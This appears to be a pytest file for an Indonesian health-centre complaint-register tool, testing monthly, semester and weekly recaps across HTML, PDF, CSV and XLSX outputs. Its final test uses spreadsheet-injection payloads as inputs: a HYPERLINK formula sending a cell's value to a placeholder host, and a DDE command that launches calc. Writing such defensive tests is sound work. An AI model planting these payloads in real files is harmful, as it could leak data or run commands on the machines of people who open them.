"""The recaps from a register whose figures are known (tests/register_fixture.py): monthly,
semester and weekly, in HTML, PDF (read back with pdftotext), CSV and XLSX."""

from __future__ import annotations

import csv
import io
import re
import shutil
import subprocess
from datetime import UTC, datetime
from pathlib import Path
from zoneinfo import ZoneInfo

import pytest
from openpyxl import load_workbook
from sqlalchemy import Engine
from sqlmodel import Session

from aduan.daemon.config import Facility, Settings
from aduan.daemon.errors import UsageError
from aduan.daemon.reports import periods
from aduan.daemon.reports.recap import FORMATS, Report, make_report
from aduan.daemon.reports.texts import REGISTER_COLUMNS
from aduan.models.tables import CHANNELS, KINDS, UNITS
from tests.register_fixture import Expected, FixtureRegister, Timely, fill_register

SETTINGS = Settings(facility=Facility(name="Puskesmas Contoh"))
TZ = SETTINGS.facility.tz
JAKARTA = ZoneInfo("Asia/Jakarta")
CSV_HEADER = [
    "register_no",
    "received_at",
    "channel",
    "kind",
    "unit",
    "urgent",
    "status",
    "forwarded_at",
    "answered_at",
    "resolved_at",
    "overdue",
]
KIND_ID = {
    "keluhan": "Keluhan",
    "saran": "Saran",
    "pujian": "Pujian",
    "pertanyaan": "Pertanyaan",
    "lainnya": "Lainnya",
}


@pytest.fixture
def fx(engine: Engine) -> FixtureRegister:
    return fill_register(engine, SETTINGS)


def _report(
    engine: Engine,
    period: periods.Period,
    now: datetime,
    out: Path,
    lang: str = "id",
    formats: tuple[str, ...] = FORMATS,
) -> Report:
    with Session(engine) as session:
        return make_report(session, SETTINGS, period, now, formats, out, lang)


def _pdf_lines(path: Path) -> list[str]:
    """The PDF's text, one line per printed line, runs of spaces made one."""
    if shutil.which("pdftotext") is None:
        pytest.skip("pdftotext not found (Debian package poppler-utils)")
    text = subprocess.run(
        ["pdftotext", "-layout", str(path), "-"], check=True, capture_output=True, text=True
    ).stdout
    # pdftotext may or may not keep the space after ▲: "▲ 5" and "▲5" both become "▲5".
    lines = (re.sub(r"([▲▼])\s+", r"\1", line) for line in text.splitlines())
    return [" ".join(line.split()) for line in lines if line.strip()]


def _has_line(lines: list[str], *parts: str) -> bool:
    """Whether one line holds `parts` in order, separated by white space only."""
    pattern = re.compile(r"(^|\s)" + r"\s+".join(map(re.escape, parts)) + r"($|\s)")
    return any(pattern.search(line) for line in lines)


def _pct(share: float | None, lang: str = "id") -> str:
    assert share is not None
    text = f"{share * 100:.1f}%"
    return text.replace(".", ",") if lang == "id" else text


def _change(now: int, before: int) -> str:
    diff = now - before
    if diff == 0:
        return "0"
    return f"{'▲' if diff > 0 else '▼'}{abs(diff)}"


def _csv_rows(path: Path) -> list[dict[str, str]]:
    raw = path.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf"), "Excel needs the BOM to read UTF-8"
    reader = csv.reader(io.StringIO(raw[3:].decode("utf-8")))
    header, *rows = list(reader)
    assert header == CSV_HEADER
    return [dict(zip(header, row, strict=True)) for row in rows]


# --- the fixture itself -------------------------------------------------------------------


def test_fixture_covers_every_value_and_outcome(fx: FixtureRegister) -> None:
    m = fx.monthly
    assert (m.total, m.urgent, m.spam) == (38, 3, 3)
    assert set(m.by_channel) == set(CHANNELS)
    assert set(m.by_kind) == set(KINDS)
    assert set(m.by_unit) == set(UNITS)
    assert set(m.by_status) == {"diterima", "diteruskan", "ditindaklanjuti", "selesai"} | {
        "dipublikasikan"
    }
    assert m.forward == Timely(on_time=31, late=7, late_pending=3, pending=0)
    assert m.answer == Timely(on_time=12, late=13, late_pending=9, pending=0)
    assert m.resolve == Timely(on_time=20, late=5, late_pending=4, pending=13)
    assert (fx.previous.total, fx.previous.spam) == (5, 1)
    assert len(fx.overdue) == 16
    assert fx.week == "2026-W42" and fx.semester == "2026-S2"
    assert {"Siti Aminah", "+6281234567890", "siti.aminah@example.org"} <= set(fx.personal)
    assert "3171234567890123" in fx.niks


# --- periods ------------------------------------------------------------------------------


def test_periods_are_local_midnights_with_their_neighbours() -> None:
    november = periods.month("2026-11", JAKARTA)
    assert november.start == datetime(2026, 11, 1, tzinfo=JAKARTA)
    assert november.end == datetime(2026, 12, 1, tzinfo=JAKARTA)
    assert november.start.astimezone(UTC) == datetime(2026, 10, 31, 17, tzinfo=UTC)
    assert november.previous().key == "2026-10"
    assert periods.month("2026-01", JAKARTA).previous().key == "2025-12"

    second = periods.semester("2026-S2", JAKARTA)
    assert (second.start.month, second.end) == (7, datetime(2027, 1, 1, tzinfo=JAKARTA))
    assert periods.semester("2026-1", JAKARTA).key == "2026-S1"
    assert second.previous().key == "2026-S1"
    assert periods.semester("2026-S1", JAKARTA).previous().key == "2025-S2"
    assert [m.key for m in second.months()][::5] == ["2026-07", "2026-12"]

    w48 = periods.week("2026-W48", JAKARTA)
    assert w48.start == datetime(2026, 11, 23, tzinfo=JAKARTA)  # a Monday
    assert w48.end == datetime(2026, 11, 30, tzinfo=JAKARTA)
    assert periods.week("2027-W01", JAKARTA).previous().key == "2026-W53"


def test_last_complete_is_the_period_that_ended_before_now() -> None:
    now = datetime(2026, 12, 1, 0, 30, tzinfo=JAKARTA)  # 30 November 17.30 UTC
    assert periods.last_complete("bulanan", now, JAKARTA).key == "2026-11"
    assert periods.last_complete("semester", now, JAKARTA).key == "2026-S1"
    assert periods.last_complete("semester", datetime(2027, 1, 2, tzinfo=JAKARTA), JAKARTA).key == (
        "2026-S2"
    )
    assert periods.last_complete("mingguan", now, JAKARTA).key == "2026-W48"


@pytest.mark.parametrize(
    ("parse", "text"),
    [
        (periods.month, "2026-13"),
        (periods.month, "11-2026"),
        (periods.month, "november"),
        (periods.semester, "2026-S3"),
        (periods.semester, "2026"),
        (periods.week, "2026-48"),
        (periods.week, "2026-W54"),
        (periods.week, "2025-W53"),  # 2025 has 52 ISO weeks
    ],
)
def test_a_bad_period_is_a_one_line_usage_error(parse: object, text: str) -> None:
    assert callable(parse)
    with pytest.raises(UsageError) as caught:
        parse(text, JAKARTA)
    message = str(caught.value)
    assert text in message and "\n" not in message


def test_an_unknown_format_is_a_usage_error(engine: Engine, tmp_path: Path) -> None:
    out = tmp_path / "laporan"
    with pytest.raises(UsageError, match="docx"):
        _report(engine, periods.month("2026-11", TZ), datetime.now(UTC), out, formats=("docx",))
    assert not out.exists()


# --- monthly ------------------------------------------------------------------------------


def test_monthly_recap_in_every_format(engine: Engine, fx: FixtureRegister, tmp_path: Path) -> None:
    period = periods.month(fx.month, TZ)
    report = _report(engine, period, fx.now, tmp_path)
    stem = "rekap-bulanan-2026-10"
    assert [p.name for p in report.files] == [f"{stem}.{ext}" for ext in FORMATS]
    assert report.title == "Rekapitulasi Pengaduan Bulan Oktober 2026 — Puskesmas Contoh"
    assert 3 <= len(report.summary) <= 8
    assert report.summary[0] == "Pengaduan: 38 (bulan lalu 5, ▲ 33)"
    m, before = fx.monthly, fx.previous

    lines = _pdf_lines(tmp_path / f"{stem}.pdf")
    assert any("Rekapitulasi Pengaduan Bulan Oktober 2026" in line for line in lines)
    assert _has_line(lines, "Pengaduan (di luar spam)", "38", "5", "▲33")
    assert _has_line(lines, "Bukan aduan (spam/promosi)", str(m.spam), str(before.spam))
    for kind, label in KIND_ID.items():
        now_n, before_n = m.by_kind.get(kind, 0), before.by_kind.get(kind, 0)
        assert _has_line(lines, label, str(now_n), str(before_n), _change(now_n, before_n))
    assert _has_line(lines, "Surel", str(m.by_channel["email"]), str(before.by_channel["email"]))
    assert _has_line(lines, "Ditindaklanjuti", str(m.by_status["ditindaklanjuti"]))
    for row, limit, timely, total in (
        ("Diteruskan ke tim", "48 jam", m.forward, m.total),
        ("Selesai ditangani", "60 hari", m.resolve, m.total),
    ):
        cells = (str(total), str(timely.on_time), str(timely.late), str(timely.pending))
        assert _has_line(lines, row, "≤", limit, *cells, _pct(timely.share))
    assert any(_pct(m.answer.share) in line for line in lines)  # "48,0%"
    assert _pct(m.forward.share) == "81,6%"
    late = (m.forward.late_pending, m.answer.late_pending, m.resolve.late_pending)
    late_note = "diteruskan {}, dijawab {}, selesai {}".format(*late)
    assert late_note in " ".join(lines)
    assert _has_line(lines, "1", "antri", "6")  # the most frequent cue word
    for number in fx.overdue:
        assert any(number in line for line in lines), number
    pdf_text = "\n".join(lines)

    html = (tmp_path / f"{stem}.html").read_text(encoding="utf-8")
    assert html.count("<svg") == 3 and "<?xml" not in html
    assert 'id="' in html and len(set(re.findall(r'id="([^"]+)"', html))) == len(
        re.findall(r'id="([^"]+)"', html)
    ), "ids shared between inline charts"
    for personal in fx.personal:
        assert personal not in html, personal
        assert personal not in pdf_text, personal
    for text in fx.texts.values():
        assert text not in html  # the head gets figures, not complaint texts
    assert fx.numbers["siti"] not in html  # answered: not in the overdue list

    rows = _csv_rows(tmp_path / f"{stem}.csv")
    assert [r["register_no"] for r in rows] == list(m.register_nos)
    siti = next(r for r in rows if r["register_no"] == fx.numbers["siti"])
    assert siti == {
        "register_no": fx.numbers["siti"],
        "received_at": "2026-10-01T00:30+07:00",
        "channel": "email",
        "kind": "keluhan",
        "unit": "pendaftaran",
        "urgent": "0",
        "status": "selesai",
        "forwarded_at": "2026-10-01T02:30+07:00",
        "answered_at": "2026-10-03T02:30+07:00",
        "resolved_at": "2026-10-03T02:30+07:00",
        "overdue": "",
    }
    never = next(r for r in rows if r["register_no"] == fx.numbers["never_forwarded"])
    assert (never["status"], never["overdue"]) == ("diterima", "forward+resolve")
    # Forwarded to our mailbox by a colleague at once: only the team's forwarding counts.
    inbound = next(r for r in rows if r["register_no"] == fx.numbers["inbound"])
    assert inbound["forwarded_at"] == "2026-10-28T13:00+07:00"
    assert next(r for r in rows if r["register_no"] == fx.numbers["last_minute"])

    book = load_workbook(tmp_path / f"{stem}.xlsx")
    assert book.sheetnames == ["Ringkasan", "Register"]
    register = book["Register"]
    header = [c.value for c in register[1]]
    assert header == list(REGISTER_COLUMNS["id"])
    assert header[:7] == [
        "No",
        "Tanggal",
        "Nama/Alamat/No. HP",
        "Isi Pengaduan",
        "Tanggapan",
        "RTL",
        "Status",
    ]
    assert register.max_row == 1 + m.total  # spam is no feedback: not in the register book
    assert register.freeze_panes == "A2"
    first = [c.value for c in register[2]]
    assert first[0] == 1
    assert first[1] == datetime(2026, 10, 1, 0, 30)  # a real date, the facility's time
    assert first[2] == "Siti Aminah\nJl. Melati No. 5\nsiti.aminah@example.org"
    assert first[3] == fx.texts[fx.numbers["siti"]]
    assert first[4].startswith("Terima kasih") and first[5].startswith("Tindak lanjut")
    assert first[6:] == ["Selesai", fx.numbers["siti"], "Surel", "Keluhan", "Pendaftaran"]
    summary = [[c.value for c in row] for row in book["Ringkasan"].iter_rows()]
    forward = next(r for r in summary if r[0] == "Diteruskan ke tim mutu")
    assert forward[2:6] == [38, m.forward.on_time, m.forward.late, m.forward.pending]
    assert forward[6] == pytest.approx(m.forward.share)
    overdue_rows = [r for r in summary if r[1] in fx.overdue]
    assert len(overdue_rows) == len(fx.overdue)


def test_a_recap_counts_only_what_was_known_at_its_now(
    engine: Engine, fx: FixtureRegister, tmp_path: Path
) -> None:
    # As the service makes it: the morning after the month ended.
    now = datetime(2026, 11, 1, 7, tzinfo=JAKARTA)
    report = _report(engine, periods.month(fx.month, TZ), now, tmp_path, formats=("csv",))
    assert [p.name for p in report.files] == ["rekap-bulanan-2026-10.csv"]
    rows = {r["register_no"]: r for r in _csv_rows(report.files[0])}
    late = rows[fx.numbers["late_answer"]]  # answered in December
    assert (late["forwarded_at"], late["answered_at"]) == ("2026-10-07T09:30+07:00", "")
    assert rows[fx.numbers["last_minute"]]["forwarded_at"] == "2026-11-01T02:30+07:00"


def test_english_monthly_recap_has_the_same_files_translated(
    engine: Engine, fx: FixtureRegister, tmp_path: Path
) -> None:
    period = periods.month(fx.month, TZ)
    report = _report(engine, period, fx.now, tmp_path, lang="en", formats=("html", "xlsx"))
    assert [p.name for p in report.files] == [
        "rekap-bulanan-2026-10.html",
        "rekap-bulanan-2026-10.xlsx",
    ]
    assert report.title == "Monthly Complaint Recap, October 2026 — Puskesmas Contoh"
    assert report.summary[0] == "Feedback: 38 (last month 5, ▲ 33)"
    html = (tmp_path / "rekap-bulanan-2026-10.html").read_text(encoding="utf-8")
    assert '<html lang="en">' in html
    for words in ("Timeliness", "Forwarded to the quality team", "81.6%", "Complaint", "E-mail"):
        assert words in html, words
    assert "Jumlah pengaduan" not in html
    book = load_workbook(tmp_path / "rekap-bulanan-2026-10.xlsx")
    assert book.sheetnames == ["Summary", "Register"]
    assert [c.value for c in book["Register"][1]][:4] == [
        "No",
        "Date",
        "Name/Address/Phone",
        "Complaint",
    ]


def test_an_empty_month_is_still_a_report(engine: Engine, tmp_path: Path) -> None:
    now = datetime(2026, 12, 1, 1, tzinfo=UTC)
    report = _report(engine, periods.month("2026-11", TZ), now, tmp_path)
    assert len(report.files) == 4
    assert report.summary[0] == "Pengaduan: 0 (bulan lalu 0, 0)"
    lines = _pdf_lines(tmp_path / "rekap-bulanan-2026-11.pdf")
    assert _has_line(lines, "Pengaduan (di luar spam)", "0", "0", "0")
    assert any("Tidak ada pengaduan yang melewati batas waktu" in line for line in lines)
    # No empty axes: each of the three charts says in words that nothing was registered.
    html = (tmp_path / "rekap-bulanan-2026-11.html").read_text()
    assert html.count("<svg") == 0
    assert html.count("Tidak ada yang tercatat pada periode ini.") == 3
    assert any("Tidak ada yang tercatat pada periode ini." in line for line in lines)
    assert _csv_rows(tmp_path / "rekap-bulanan-2026-11.csv") == []
    assert load_workbook(tmp_path / "rekap-bulanan-2026-11.xlsx")["Register"].max_row == 1


# --- semester -----------------------------------------------------------------------------


def test_semester_analysis(engine: Engine, fx: FixtureRegister, tmp_path: Path) -> None:
    period = periods.semester(fx.semester, TZ)
    report = _report(engine, period, fx.now, tmp_path, formats=("html", "pdf", "xlsx"))
    stem = "rekap-semester-2026-S2"
    assert [p.name for p in report.files] == [f"{stem}.html", f"{stem}.pdf", f"{stem}.xlsx"]
    assert report.title == "Analisis Pengaduan Semester II Tahun 2026 — Puskesmas Contoh"
    s = fx.semester_total

    lines = _pdf_lines(tmp_path / f"{stem}.pdf")
    months = ("Juli", "Agustus", "September", "Oktober", "November", "Desember")
    for name, (key, kinds) in zip(months, fx.semester_months.items(), strict=True):
        counts = [str(kinds.get(kind, 0)) for kind in KINDS]
        assert _has_line(lines, f"{name} 2026", *counts, str(sum(kinds.values()))), key
    assert _has_line(lines, "Pengaduan (di luar spam)", str(s.total), "2")
    # Recurring: in at least three of the six months.
    assert _has_line(lines, "Pendaftaran (unit)", "5", "11")
    assert _has_line(lines, "Farmasi (unit)", "3", "5")
    assert _has_line(lines, "“antri” (kata kunci)", "5")
    assert _has_line(lines, "“obat” (kata kunci)", "3")
    assert not any("Poli Gigi (unit)" in line for line in lines)
    assert _has_line(lines, "1", "Pendaftaran", "11", "12")  # the ranking
    assert _has_line(lines, "Belum selesai", str(s.resolve.late_pending + s.resolve.pending))
    assert _has_line(lines, "Jumlah", str(s.total), "100,0%")
    assert any(_pct(s.forward.share) in line for line in lines)
    pdf_text = "\n".join(lines)

    html = (tmp_path / f"{stem}.html").read_text(encoding="utf-8")
    assert html.count("<svg") == 4  # per month, kind, channel, units ranked
    for personal in fx.personal:
        assert personal not in html and personal not in pdf_text, personal
    book = load_workbook(tmp_path / f"{stem}.xlsx")
    assert book["Register"].max_row == 1 + s.total


# --- weekly -------------------------------------------------------------------------------


def test_weekly_whatsapp_sms_recap(engine: Engine, fx: FixtureRegister, tmp_path: Path) -> None:
    period = periods.week(fx.week, TZ)
    report = _report(engine, period, fx.now, tmp_path)
    stem = "rekap-mingguan-2026-W42"
    assert [p.name for p in report.files] == [f"{stem}.{ext}" for ext in FORMATS]
    assert "Minggu ke-42 Tahun 2026" in report.title
    w: Expected = fx.weekly
    assert (w.total, w.spam) == (5, 1)

    html = (tmp_path / f"{stem}.html").read_text(encoding="utf-8")
    listed = set(re.findall(r"ADU-\d{4}-\d{2}-\d{4}", html))
    spam = {no for no in w.register_nos if "Slot gacor" in fx.texts[no]}
    assert listed == set(w.register_nos) - spam
    assert "S. W." in html and "R. K." in html  # initials, for Sri Wahyuni and Rina Kusuma
    assert "Ibu [nama], [nomor disamarkan]" in html  # what Maya Putri wrote of herself
    assert "Tindak lanjut untuk " + fx.numbers["weekly_rtl"] in html
    for personal in fx.personal:
        assert personal not in html, personal
    lines = _pdf_lines(tmp_path / f"{stem}.pdf")
    assert _has_line(lines, "WhatsApp", str(w.by_channel["whatsapp"]))
    assert _has_line(lines, "Keluhan", str(w.by_kind["keluhan"]))

    rows = _csv_rows(tmp_path / f"{stem}.csv")
    assert [r["register_no"] for r in rows] == list(w.register_nos)
    assert {r["channel"] for r in rows} == {"whatsapp", "sms"}
    book = load_workbook(tmp_path / f"{stem}.xlsx")
    register = book["Register"]
    assert register.max_row == 1 + w.total
    names = {register.cell(row, 3).value for row in range(2, register.max_row + 1)}
    assert "S. W." in names and not names & set(fx.names)


def test_complaint_text_never_becomes_a_spreadsheet_formula(engine: Engine, tmp_path: Path) -> None:
    from aduan.daemon.register import EntryDraft, create_entries
    from aduan.parsers.classification import Classification

    text = '=HYPERLINK("http://contoh.invalid/?"&A1,"klik")\x07 antrian lama'
    received = datetime(2026, 11, 3, 2, tzinfo=UTC)
    draft = EntryDraft(
        received_at=received,
        channel="web",
        source_id="web:1",
        text=text,
        classification=Classification("keluhan", "pendaftaran", False, 0.9, ()),
        reporter_name="=cmd|' /C calc'!A0",
    )
    with Session(engine) as session:
        create_entries(session, SETTINGS, [draft], received)
        session.commit()
    now = datetime(2026, 12, 1, tzinfo=UTC)
    _report(engine, periods.month("2026-11", TZ), now, tmp_path, formats=("xlsx",))
    row = load_workbook(tmp_path / "rekap-bulanan-2026-11.xlsx")["Register"][2]
    assert row[2].data_type == "s" and row[2].value == "=cmd|' /C calc'!A0"
    assert row[3].data_type == "s" and row[3].value == text.replace("\x07", "")
